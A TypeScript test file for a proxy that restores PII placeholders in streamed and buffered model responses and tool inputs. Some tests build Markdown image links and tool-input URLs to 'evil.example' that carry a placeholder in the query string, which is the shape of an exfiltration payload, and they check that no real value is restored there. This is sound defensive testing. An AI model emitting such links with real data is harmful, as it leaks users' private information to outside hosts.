// A placeholder that the model misspelled is restored alike in text and tool inputs, buffered and streamed,
// wherever the stream is cut; in URLs only where the exact one would be.

import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { restoring } from '../../../../services/ingress/restore/restore-response.ts';
import { StreamSource } from '../../../../shared/anthropic/sse/event-source.ts';
import { EMPTY_VAULT, type Vault } from '../../../../shared/privacy/vault.ts';
import { EMAIL, NAME, VALUES } from '../../../kit/placeholders.ts';
import { checkProperty } from '../../../kit/properties.ts';
import {
  cutAt,
  readResponse,
  responseEvents,
  type Block,
  type Cutting,
} from '../../../kit/responses.ts';
import { buffered, streamed } from '../../../kit/restored.ts';
import { issued } from '../../../kit/vaults.ts';
import { anySpelling, SPELLINGS } from '../../../kit/spellings.ts';

const ANN = 'ann.miller@corp.example';
const VAULT: Vault = {
  ...EMPTY_VAULT,
  values: issued({ ...VALUES, PII_CARD_4v5ccgri: '4539578763621486' }),
  numbers: ['PII_CARD_4v5ccgri'],
  urls: { named: ['named.example'], holding: [] },
};

const text = (words: string): Block => ({ type: 'text', text: words });
const tool = (json: string): Block => ({ type: 'tool_use', id: 'toolu_1', name: 'send', json });
const escaped = (json: string) =>
  json.replaceAll(
    /[^ -~]/g,
    (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0').toUpperCase()}`,
  );

/** What a client gets: buffered, and streamed in two deltas cut anywhere, and in deltas of one character. */
function* everyWay(block: Block, length: number): Generator {
  yield buffered([block], VAULT);
  for (let place = 0; place <= length; place += 1) {
    yield streamed([block], VAULT, (words) => cutAt(words, place));
  }
  yield streamed([block], VAULT, (words) => words.split(''));
}

describe.each(Object.entries(SPELLINGS))('%s', (_, spelled) => {
  it('is restored in text wherever it is cut', () => {
    const words = `Hi ${spelled(EMAIL)}, ${spelled(NAME)}!`;
    for (const content of everyWay(text(words), words.length)) {
      expect(content).toMatchObject([{ text: `Hi ${ANN}, ${VALUES[NAME]}!` }]);
    }
  });

  it('is restored in a tool input wherever it is cut', () => {
    const input = { [spelled(EMAIL)]: [`a "${spelled(NAME)}"\n`] };
    const restored = { [ANN]: [`a "${VALUES[NAME]}"\n`] };
    for (const json of [JSON.stringify(input), escaped(JSON.stringify(input))]) {
      for (const content of everyWay(tool(json), json.length)) {
        expect(content).toMatchObject([{ input: restored }]);
      }
    }
  });

  it('stands for a number wherever it is cut', () => {
    const json = JSON.stringify({ card: spelled('PII_CARD_4v5ccgri'), n: 1 });
    for (const content of everyWay(tool(json), json.length)) {
      expect(content).toMatchObject([{ input: { card: 4539578763621486, n: 1 } }]);
    }
  });

  it('is restored in a URL only if the request names its host', () => {
    const words = (host: string, value: string) => `![x](https://${host}/a?q=${value})`;
    const named = words('named.example', spelled(EMAIL));
    for (const content of everyWay(text(named), named.length)) {
      expect(content).toMatchObject([{ text: words('named.example', ANN) }]);
    }
    const other = words('evil.example', spelled(EMAIL));
    for (const content of everyWay(text(other), other.length)) {
      expect(content).toMatchObject([{ text: other }]);
    }
    const json = JSON.stringify({ url: `https://evil.example/?q=${spelled(EMAIL)}` });
    for (const content of everyWay(tool(json), json.length)) {
      expect(content).toMatchObject([{ input: JSON.parse(json) as object }]);
    }
  });
});

describe('any spelling', () => {
  const part = fc.oneof(
    fc
      .tuple(anySpelling, fc.constantFrom(...Object.keys(VALUES)))
      .map(([spell, each]) => spell(each)),
    fc.constantFrom(
      ' https://evil.example/',
      ' https://named.example/',
      ' ',
      '\\',
      'pii_',
      '"',
      'x',
    ),
  );
  const response = fc.array(part, { maxLength: 6 }).map((parts) => parts.join(''));

  it('is the same buffered and streamed, cut anywhere', () => {
    checkProperty(
      fc.property(
        response,
        fc.array(fc.nat(), { maxLength: 6 }),
        fc.boolean(),
        (words, cuts, isText) => {
          const blocks = [isText ? text(words) : tool(JSON.stringify({ a: words, [words]: 1 }))];
          const cutting: Cutting = (each) => {
            const places = cuts.map((place) => place % (each.length + 1));
            return cutAt(each, ...places.toSorted((a, b) => a - b));
          };
          expect(streamed(blocks, VAULT, cutting)).toEqual(buffered(blocks, VAULT));
        },
      ),
      { runs: 300 },
    );
  });

  it('is restored when a tool input escapes underscores as Markdown does, which is not JSON', () => {
    const restorer = restoring(new StreamSource(), VAULT);
    const json = '{"to":"PII\\_EMAIL\\_7k3qx5ta"}';
    const events = responseEvents([tool(json)], (each) => each.split(''));
    const seen = events.map((event) => restorer.push(Buffer.from(event)));
    const { content } = readResponse(Buffer.concat([...seen, restorer.end()]).toString());
    expect(content).toMatchObject([{ input: { to: ANN } }]);
  });
});
